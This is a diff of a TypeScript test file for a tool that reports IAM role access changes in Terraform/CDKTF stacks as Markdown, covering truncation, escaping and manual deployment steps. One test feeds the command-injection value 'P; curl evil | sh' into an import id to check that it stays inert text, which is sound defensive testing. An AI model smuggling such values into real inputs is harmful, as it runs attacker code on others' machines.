@@ -1,29 +1,29 @@
-import { reportMarkdown } from "../../modules/review";
-import { json, reviewed, roles, S3_READ, type Stack } from "./outputs";
+import { type Outcome, reportMarkdown, TEXTS } from "../../../modules/review/markdown";
+import { json, reviewed, roles, S3_READ, type Stack } from "../outputs";
+
+// What stands where, how often, and how it is cut and escaped. Sentences come from the catalogue, which has its own test.
 
 const shown = (before: Readonly<Record<string, Stack>>, after: Readonly<Record<string, Stack>>) =>
   reportMarkdown(reviewed(before, after));
-const noChange = (roles: string, workspaces: string, but = "") =>
-  `**No change in access${but}:** the inline policies of ${roles} in ${workspaces} allow what they allowed before, and nothing else differs that is known to bear on it.`;
+const inAll = (access: "broader" | "narrower" | "not determined", count: number, outcome: Outcome) =>
+  TEXTS.accessChange({ access, changes: TEXTS.rolesInAll({ count, outcome }) });
 
 describe("no change in access", () => {
-  test("is one line, whatever else differs", () => {
+  test("is one line if the other differences don't affect access", () => {
     const other = { output: { o: { value: "1" } }, locals: { a: 1 }, data: { aws_region: { r: {} } } };
     expect(shown({ s: roles(["A", "B"]) }, { s: { ...roles(["B", "A"]), ...other } })).toBe(
-      `${noChange("2 IAM roles", "1 workspace")}\n`,
+      `${TEXTS.noChange({ roles: 2, workspaces: 1 })}\n`,
     );
     expect(shown({}, { s: { resource: { aws_s3_bucket: { b: {} } } } })).toBe(
-      `${noChange("0 IAM roles", "1 workspace")}\n`,
+      `${TEXTS.noChange({ roles: 0, workspaces: 1 })}\n`,
     );
   });
 
-  test("comes first where something else changes", () => {
+  test("comes first if something else changes", () => {
     const named = (name: string) => ({
       s: { resource: { aws_iam_role_policy: { a: { role: "R", name, policy: json(S3_READ) } } } },
     });
-    expect(shown(named("P"), named("Q")).split("\n")[0]).toBe(
-      noChange("1 IAM role", "1 workspace", ", but something else changes"),
-    );
+    expect(shown(named("P"), named("Q")).split("\n")[0]).toBe(TEXTS.noChangeButOthers({ roles: 1, workspaces: 1 }));
   });
 });
 
@@ -31,37 +31,35 @@ describe("a thousand roles", () => {
   const many = Array.from({ length: 1000 }, (_, index) => `Role-${1000 + index}`);
   const text = shown({ s: {} }, { s: roles(many) });
 
-  test("are counted, the first ten named, and where the rest is", () => {
-    expect(text.split("\n")[0]).toBe("**Access gets broader:** 1,000 IAM roles gain access.");
+  test("are counted, and the first ten are named, with a hint where the others are", () => {
+    expect(text.split("\n")[0]).toBe(inAll("broader", 1000, "gainsAccess"));
     expect(text).toContain(
-      '`Role-1008`, `Role-1009`, and 990 more (all of it by `npm run -s review -- BASE HEAD --json`, or each `"role"` in `stacks/s/cdk.tf.json`). ',
+      `\`Role-1008\`, \`Role-1009\`, ${TEXTS.more({ count: 990, file: "`stacks/s/cdk.tf.json`" })}. `,
     );
     expect(text).not.toContain("Role-1010");
     expect(text.split("\n").length).toBeLessThan(20);
   });
 
-  test("in a thousand workspaces are no more than GitHub takes, and say that there is more", () => {
+  test("in a thousand workspaces are cut to what GitHub accepts, with a hint where the rest is", () => {
     const stacks = Object.fromEntries(many.map((role) => [role.toLowerCase(), roles([role])]));
     const all = shown({}, stacks);
     expect(all.length).toBeLessThan(65_536);
-    expect(all).toContain("| …and 950 more |");
-    expect(all).toContain(
-      "\n\n…and more than fits here: all of it by `npm run -s review -- BASE HEAD --json`.\n\n<sub>",
-    );
+    expect(all).toContain(`| ${TEXTS.moreWorkspaces({ count: 950 })} |`);
+    expect(all).toContain(`\n\n${TEXTS.moreThanFits()}\n\n<sub>`);
   });
 
-  test("with a permission each of their own are no more either", () => {
+  test("with different permissions are cut to what GitHub accepts, too", () => {
     const own = Object.fromEntries(
       many.map((role) => [role, { name: "P", role, policy: json({ ...S3_READ, Resource: `arn:aws:s3:::${role}` }) }]),
     );
     const all = shown({}, { s: { resource: { aws_iam_role_policy: own } } });
     expect(all.length).toBeLessThan(65_536);
-    expect(all).toContain("…and 990 more groups of roles: all of it by `npm run -s review -- BASE HEAD --json`.\n");
+    expect(all).toContain(`${TEXTS.moreGroups({ count: 990 })}\n`);
   });
 });
 
 describe("permissions", () => {
-  test("are a line for each action, with its resources and conditions, once for all roles", () => {
+  test("have a line for each action with its resources and conditions, once for all roles", () => {
     const policy = json(
       { ...S3_READ, Action: ["s3:GetObject", "s3:PutObject"], Resource: ["arn:aws:s3:::b", "arn:aws:s3:::a"] },
       {
@@ -82,12 +80,12 @@ describe("permissions", () => {
     ]);
   });
 
-  test("that are wide stand first, so that none hides behind the lines that are left out", () => {
+  test("that are wide come first, so that they are among the lines that are shown", () => {
     const actions = Array.from({ length: 100 }, (_, index) => `a:Action${100 + index}`);
     const text = shown({ s: {} }, { s: roles(["R"], json({ ...S3_READ, Action: [...actions, "z:*"] })) });
     const lines = /```diff\n(.*?)```/s.exec(text)?.[1]?.split("\n") ?? [];
     expect(lines[0]).toBe("+ z:* on *");
-    expect(lines.at(-2)).toBe("…and 61 more lines: all of it by `npm run -s review -- BASE HEAD --json`");
+    expect(lines.at(-2)).toBe(TEXTS.moreLines({ count: 61 }));
   });
 });
 
@@ -96,23 +94,19 @@ describe("what changes for roles", () => {
   const [read, write] = [S3_READ, { ...S3_READ, Action: "s3:PutObject" }];
   const title = (before: object[], after: object[]) => shown(stack(json(...before)), stack(json(...after))).split("\n");
 
-  test.each([
-    ["more", [read], [read, write], "gets broader:** 1 IAM role may do more.", "may do more"],
-    ["less", [read, write], [read], "gets narrower:** 1 IAM role may do less.", "may do less"],
-    [
-      "both",
-      [read],
-      [write],
-      "gets broader:** 1 IAM role may do more or less.",
-      "may do more in part and less in part, which counts as broader",
-    ],
-  ])("is said as %s", (_what, before, after, head, group) => {
+  test.each<[Outcome, object[], object[], "broader" | "narrower", Outcome]>([
+    ["gainsPermissions", [read], [read, write], "broader", "gainsPermissions"],
+    ["losesPermissions", [read, write], [read], "narrower", "losesPermissions"],
+    ["gainsSomeAndLosesOthers", [read], [write], "broader", "gainsOrLosesPermissions"],
+  ])("is said of a group as %s, and in the headline of all groups together", (outcome, before, after, access, all) => {
     const lines = title(before, after);
-    expect(lines[0]).toBe(`**Access ${head}`);
-    expect(lines[4]).toBe(`**1 role ${group}:** \`R\`. Inline policy \`P\` changes:`);
+    expect(lines[0]).toBe(inAll(access, 1, all));
+    const group = TEXTS.rolesOfGroup({ count: 1, outcome, doubt: "none" });
+    const change = TEXTS.changedPolicies({ count: 1, policies: "`P`", change: "changed" });
+    expect(lines[4]).toBe(`**${group}:** \`R\`. ${change}`);
   });
 
-  test("is said of each group by itself, and of all together in the first line", () => {
+  test("is said of each group by itself, and of all groups together in the headline", () => {
     const two = (a: object[], b: object[]) => ({
       s: {
         resource: {
@@ -124,62 +118,67 @@ describe("what changes for roles", () => {
       },
     });
     const text = shown(two([read], [read, write]), two([read, write], [read]));
-    expect(text.split("\n")[0]).toBe("**Access gets broader:** 2 IAM roles may do more or less.");
-    expect(text).toContain("**1 role may do more:** `A`.");
-    expect(text).toContain("**1 role may do less:** `B`.");
-    expect(shown(two([read], []), two([], []))).toContain("Inline policy `P` is removed:\n");
+    expect(text.split("\n")[0]).toBe(inAll("broader", 2, "gainsOrLosesPermissions"));
+    const group = (outcome: Outcome) => `**${TEXTS.rolesOfGroup({ count: 1, outcome, doubt: "none" })}:**`;
+    expect(text).toContain(`${group("gainsPermissions")} \`A\`.`);
+    expect(text).toContain(`${group("losesPermissions")} \`B\`.`);
+    expect(shown(two([read], []), two([], []))).toContain(
+      `${TEXTS.changedPolicies({ count: 1, policies: "`P`", change: "removed" })}\n`,
+    );
   });
 
-  test("says of an action together what it is allowed on before and after, and how much stays", () => {
+  test("lists what an action is allowed on before and after together, and counts what stays", () => {
     const [wide, narrow] = [S3_READ, { ...S3_READ, Resource: "arn:aws:s3:::b" }];
     const text = shown(stack(json(wide, write)), stack(json(narrow, write)));
     expect(text).toContain(
-      "```diff\n- s3:GetObject on *\n+ s3:GetObject on arn:aws:s3:::b\n```\n\n1 other permission of theirs stays as it is.\n",
+      `\`\`\`diff\n- s3:GetObject on *\n+ s3:GetObject on arn:aws:s3:::b\n\`\`\`\n\n${TEXTS.keptPermissions({ kept: 1, roles: 1 })}\n`,
     );
   });
 
-  test("is told as broader, and not as undecided, where a part of it is known", () => {
+  test("is broader, and not undetermined, if a part of it is known", () => {
     const denied = [read, { ...write, Effect: "Deny" }];
     const unread = { ...read, Principal: "a" };
-    const lines = title(denied, [read, unread]);
-    expect(lines[0]).toBe("**Access gets broader:** 1 IAM role may do more.");
+    expect(title(denied, [read, unread])[0]).toBe(inAll("broader", 1, "gainsPermissions"));
+    expect(title(denied, [read, unread])[4]).toContain(
+      TEXTS.rolesOfGroup({ count: 1, outcome: "getsOtherPermissions", doubt: "some" }),
+    );
   });
 
-  test("says so where it can't be decided, and what an access depends on", () => {
+  test("says that access could not be determined, and which differences it depends on", () => {
     const unknown = roles(["R"], "${var.p}", { variable: { p: { default: "a" } } });
     const text = shown({ s: unknown }, { s: { ...unknown, variable: { p: { default: "b", type: "string" } } } });
-    expect(text.split("\n")[0]).toBe(
-      "**Access can't be decided on here, so it counts as broader:** 1 IAM role may do what can't be read.",
-    );
-    expect(text).toContain(
-      '- the text of the policy `var.p` (changed), known only at apply: `default` of `var.p` was `"a"`, and is `"b"`, `type` of `var.p` was not given, and is `"string"`\n',
+    expect(text.split("\n")[0]).toBe(inAll("not determined", 1, "getsUnknownPermissions"));
+    expect(text).toContain(TEXTS.rolesOfGroup({ count: 1, outcome: "getsOtherPermissions", doubt: "all" }));
+    const doubt = text.split("\n").find((line) => line.startsWith("- ") && line.includes("`var.p`")) ?? "";
+    expect(doubt.match(/`[^`]+`/g)).toEqual(
+      ["var.p", "default", "var.p", '"a"', '"b"', "type", "var.p", '"string"'].map((value) => `\`${value}\``),
     );
   });
 });
 
-describe("what is to be done by hand", () => {
+describe("what a person has to do by hand", () => {
   const steps = (before: Readonly<Record<string, Stack>>, after: Readonly<Record<string, Stack>>) => {
-    const [, found = ""] = /^\*\*To do by hand:\*\*\n\n(.*?)\n\n/ms.exec(shown(before, after)) ?? [];
-    return found.split("\n").filter(Boolean);
+    const [, found = ""] = shown(before, after).split(`${TEXTS.stepsTitle()}\n\n`);
+    const [list = ""] = found.split("\n\n");
+    return list.split("\n").flatMap((line) => (line === "" ? [] : [line.replace(/^- /, "")]));
   };
   const provider = (account: string) => ({ provider: { aws: [{ allowed_account_ids: [account] }] } });
   const state = (path: string) => ({ terraform: { backend: { local: { path } } } });
 
-  test("a stack that is removed, or turns to another account, is destroyed before, and only then are its roles without", () => {
+  test("destroy the stack of a removed workspace, or of one that changes to another account", () => {
     const text = shown({ s: roles(["R"]), t: {} }, { t: {} });
-    expect(text.split("\n")[0]).toBe(
-      "**Access gets narrower:** 1 IAM role loses access, but only once a stack is destroyed by hand.",
-    );
-    expect(text).toContain("`npx cdktf destroy s`");
-    const [step = "", ...others] = steps(
-      { s: roles(["R"], json(S3_READ), provider("111111111111")) },
-      { s: roles(["R"], json(S3_READ), provider("222222222222")) },
-    );
-    expect(step).toContain("destroy its stack in account `111111111111`");
-    expect(others).toEqual([]);
+    expect(text.split("\n")[0]).toBe(inAll("narrower", 1, "losesAccessByHand"));
+    const stack = { workspace: "`s`", command: "`npx cdktf destroy s`", onlyPolicies: true };
+    expect(text).toContain(`\n- ${TEXTS.destroyRemoved(stack)}\n`);
+    expect(
+      steps(
+        { s: roles(["R"], json(S3_READ), provider("111111111111")) },
+        { s: roles(["R"], json(S3_READ), provider("222222222222")) },
+      ),
+    ).toEqual([TEXTS.destroyOfOtherAccount({ ...stack, account: "`111111111111`" })]);
   });
 
-  test("a stack isn't destroyed for an account that is merely allowed too, or of a provider that puts nothing", () => {
+  test("nothing if another account is also allowed, or if the provider manages no policy", () => {
     const two = { provider: { aws: [{ allowed_account_ids: ["111111111111", "222222222222"] }] } };
     expect(
       steps({ s: roles(["R"], json(S3_READ), provider("111111111111")) }, { s: roles(["R"], json(S3_READ), two) }),
@@ -195,40 +194,42 @@ describe("what is to be done by hand", () => {
     ).toEqual([]);
   });
 
-  test("what is to be pasted is a command and nothing else", () => {
+  test("paste a command, in which names can't add commands of their own", () => {
     const stack = { ...roles(["A"]), import: [{ to: "aws_iam_role_policy.A", id: "A:P; curl evil | sh" }] };
-    expect(steps({ s: {} }, { s: stack })).toEqual([expect.stringContaining(": `P; curl evil | sh`.")]);
+    expect(steps({ s: {} }, { s: stack })).toEqual([
+      TEXTS.checkAdopted({ workspace: "`s`", count: 1, commands: "`P; curl evil | sh`" }),
+    ]);
     expect(steps({ "s; x": roles(["A"]) }, {})).toEqual([expect.stringContaining("`npx cdktf destroy STACK`")]);
   });
 
-  test("for 300 workspaces is cut like the rest", () => {
+  test("is cut for 300 workspaces", () => {
     const stacks = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`s${100 + index}`, roles(["R"])]));
     expect(shown(stacks, {}).length).toBeLessThan(65_536);
   });
 
-  test("state that is kept elsewhere is migrated", () => {
+  test("migrate the state if it moves, and not if another setting of it changes", () => {
     expect(
       steps({ s: roles(["R"], json(S3_READ), state("a")) }, { s: roles(["R"], json(S3_READ), state("b")) }),
-    ).toEqual([expect.stringContaining("`npx cdktf deploy s --migrate-state`")]);
+    ).toEqual([TEXTS.migrateState({ workspace: "`s`", command: "`npx cdktf deploy s --migrate-state`" })]);
     const encrypted = (encrypt: boolean) => ({
       s: roles(["R"], json(S3_READ), { terraform: { backend: { s3: { bucket: "b", encrypt } } } }),
     });
     expect(steps(encrypted(false), encrypted(true))).toEqual([]);
   });
 
-  test("of two workspaces that share a policy's name, the one that deletes it is deployed first; otherwise last", () => {
+  test("deploy the workspace that deletes a policy before the one that creates it again, and after it if the names differ", () => {
     const named = (name: string) => ({
       resource: { aws_iam_role_policy: { a: { name, role: "R", policy: json(S3_READ) } } },
     });
     expect(steps({ s: named("P"), t: {} }, { s: {}, t: named("P") })).toEqual([
-      expect.stringContaining("deploy `s`, which deletes it, and only when that is done `t`"),
+      TEXTS.deployInOrder({ who: "`R`", policy: "`P`", from: "`s`", to: "`t`" }),
     ]);
     expect(steps({ s: named("P"), t: {} }, { s: {}, t: named("Q") })).toEqual([
-      expect.stringContaining("deploy `t`, which creates `Q`, and only when that is done `s`"),
+      TEXTS.deployRenamedInOrder({ who: "`R`", before: "`P`", after: "`Q`", from: "`s`", to: "`t`" }),
     ]);
   });
 
-  test("is nothing where a workspace is added or roles come and go", () => {
+  test("nothing if a workspace or roles are added or removed", () => {
     expect(steps({ s: roles(["A"]) }, { s: roles(["B"]), t: roles(["C"], json(S3_READ), state("x")) })).toEqual([]);
   });
 });
@@ -254,13 +255,13 @@ describe("text of a stack stays text", () => {
     expect(text.match(/^#+ /gm)).toEqual(["### "]);
   });
 
-  test("in a table's cell, whose end a bar would be", () => {
+  test("in a cell of the table, which a bar would end", () => {
     const provider = { provider: { aws: [{ region: "eu|west" }] } };
     const text = shown({}, { a: { ...roles(["R"]), ...provider }, b: { ...roles(["R"]), ...provider } });
     expect(text).toContain("| `a` |  | `eu\\u007cwest` | 1 | – | – | **broader** |");
   });
 
-  test("of any length is cut", () => {
+  test("is cut if it is long", () => {
     expect(
       shown({ s: {} }, { s: roles(["R"], json({ ...S3_READ, Resource: `arn:${"x".repeat(5000)}` })) }).length,
     ).toBeLessThan(1000);
